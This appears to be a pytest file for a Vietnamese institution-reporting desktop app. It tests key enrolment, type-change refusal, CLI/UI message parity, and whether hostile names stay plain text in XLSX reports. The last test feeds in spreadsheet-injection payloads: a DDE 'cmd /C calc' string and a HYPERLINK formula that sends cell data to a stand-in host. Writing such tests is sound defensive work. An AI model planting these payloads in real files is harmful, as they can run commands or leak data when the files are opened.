"""Ledger rows for three classes of the sync-trust hardening whose detailed tests live beside their code
(tests/sync/test_one_active_key.py, tests/sync/test_type_change.py, tests/reports/test_xlsx_text_is_text.py,
tests/ui/test_plain_text.py): here each class is tried over its variants and counted for docs/RELIABILITY.md."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from openpyxl import load_workbook
from rel_support import COMMUNE, HUB, make_installation, make_sync_pair, record

from lhtl_desktop.cli import main
from lhtl_desktop.model.catalogue import TYPES_BY_CODE
from lhtl_desktop.model.institutions import Institution
from lhtl_desktop.model.records import new_id, now_utc
from lhtl_desktop.model.units import Level
from lhtl_desktop.services import entry, institutions, reports
from lhtl_desktop.storage import open_store
from lhtl_desktop.sync import enrolment
from lhtl_desktop.sync.importer import import_file

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "=HYPERLINK(\"http://x.example/?d=\"&A1,\"click\")", "#N/A"]


def test_second_installations_are_never_enrolled_silently(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    hub_db, _commune_db, _bundle = make_sync_pair(tmp_path, institutions_n=1)
    tried = lost = 0
    failures: list[object] = []
    for n in range(4):  # four more PCs of the same commune, each with its own key
        other_db = tmp_path / f"pc{n}" / "lhtl.sqlite3"
        other = make_installation(other_db)
        enrol_file = enrolment.export_enrolment(other, tmp_path / f"pc{n}.lhtl")
        fp = enrolment.own_key_info(other).fingerprint
        other.close()
        hub = open_store(hub_db)
        before = hub.dump()
        hub.close()
        rc = main(["--db", str(hub_db), "key", "enroll", str(enrol_file), "--fingerprint", fp])
        err = capsys.readouterr().err
        hub = open_store(hub_db)
        active = [k for k in enrolment.trusted_keys(hub) if k.unit == COMMUNE and k.status == "active"]
        ok = rc == 2 and "đã có khóa đang dùng" in err and hub.dump() == before and len(active) == 1
        hub.close()
        tried += 1
        if not ok:
            failures.append((n, rc, err))
        lost += 0 if ok else 1
    record("key-second-installation", "a second installation of an enrolled commune (another PC, another key) "
           "enrolled without saying it replaces the first", "CLI key enroll without --replace, 4 more PCs; hub "
           "dump before/after, exactly one active key for the unit", tried, lost)
    assert lost == 0, failures


def test_type_changes_with_values_are_refused_and_values_clear(tmp_path: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    hub_db, commune_db, bundle = make_sync_pair(tmp_path, institutions_n=1)
    store = open_store(commune_db)
    lib = store.institutions([COMMUNE])[0]
    store.close()
    others = [code for code, t in TYPES_BY_CODE.items() if Level.COMMUNE in t.levels and code != lib.type]
    tried = lost = 0
    failures: list[object] = []
    for code in others:
        for db, unit_db in ((commune_db, "commune"), (hub_db, "hub")):
            if unit_db == "hub":
                hub = open_store(hub_db)
                import_file(hub, bundle, backup=False)
                hub.close()
            s = open_store(db)
            before = s.dump()
            s.close()
            rc = main(["--db", str(db), "institution", "edit", lib.id, "--type", code])
            err = capsys.readouterr().err
            s = open_store(db)
            ok = rc == 2 and "đóng và tạo mới" in err and s.dump() == before
            s.close()
            tried += 1
            if not ok:
                failures.append((code, unit_db, rc, err))
            lost += 0 if ok else 1
    # Every stored value of it can still be cleared.
    store = open_store(commune_db)
    for period in ("2024", "2025"):
        for rec in [r for r in store.current_records(lib.id, period) if r.value is not None]:
            tried += 1
            if not entry.clear_value(store, lib.id, period, rec.indicator):
                failures.append(("clear", period, rec.indicator))
                lost += 1
    store.close()
    record("institution-type-change", "an institution's type changed once it holds values (every other type a "
           "commune may hold), at the commune and at the hub; then every stored value cleared",
           "CLI institution edit --type; store.dump() before/after; entry.clear_value", tried, lost)
    assert lost == 0, failures


def test_hostile_text_never_becomes_a_formula(tmp_path: Path) -> None:
    db = tmp_path / "lhtl.sqlite3"
    store = make_installation(db, unit=HUB, officer="Lê Văn Cụm")
    names = [f"{p}cmd|' /C calc'!A0" for p in PREFIXES] + [f"{p}1+1" for p in PREFIXES] + PREFIXES
    with store.atomic():
        for n, name in enumerate(names):
            store.insert_institution(Institution(new_id(), COMMUNE, "village_house", name, village=name),
                                     created_at=now_utc(), vv={"k": n + 1}, author_key="k", edit_id=new_id())
    institutions.add_institution(store, COMMUNE, "lib_commune", "Thư viện xã")
    out = tmp_path / "bao-cao.xlsx"
    reports.write_report(store, 2025, HUB, out)
    store.close()
    wb = load_workbook(out)
    wanted = {n.replace("\r", "\n") for n in names}
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value in wanted]
    tried = len(cells)
    lost = sum(1 for c in cells if c.data_type != "s")
    record("xlsx-formula-injection", "institution and village names starting with =, +, -, @, tab, CR, a "
           "HYPERLINK formula or #N/A, written to the province workbook", "report --out F.xlsx; every cell "
           "holding such a name read back with openpyxl must be a string cell", tried, lost)
    assert tried >= len(names) and lost == 0


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="POSIX only")
def test_the_window_shows_the_same_message_as_the_cli(qtbot, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:  # type: ignore[no-untyped-def]
    from lhtl_desktop.ui.context import AppContext
    from lhtl_desktop.ui.sync_page import SyncPage

    hub_db, _commune_db, _bundle = make_sync_pair(tmp_path, institutions_n=1)
    fifo = tmp_path / "pipe.lhtl"
    os.mkfifo(fifo)
    assert main(["--db", str(hub_db), "import", str(fifo)]) == 3
    cli_reason = capsys.readouterr().out.splitlines()[1].strip()
    hub = open_store(hub_db)
    page = SyncPage(AppContext(hub))
    qtbot.addWidget(page)
    page.add_files([fifo])
    page.run_import(dry_run=False)
    qtbot.waitUntil(lambda: len(page.last_results) == 1, timeout=10_000)
    assert page.last_results[0].status == "rejected" and page.last_results[0].reason == cli_reason
    shown = [str(page.results_model.data(page.results_model.index(0, c))) for c in range(page.results_model.columnCount())]
    assert cli_reason in shown
    hub.close()
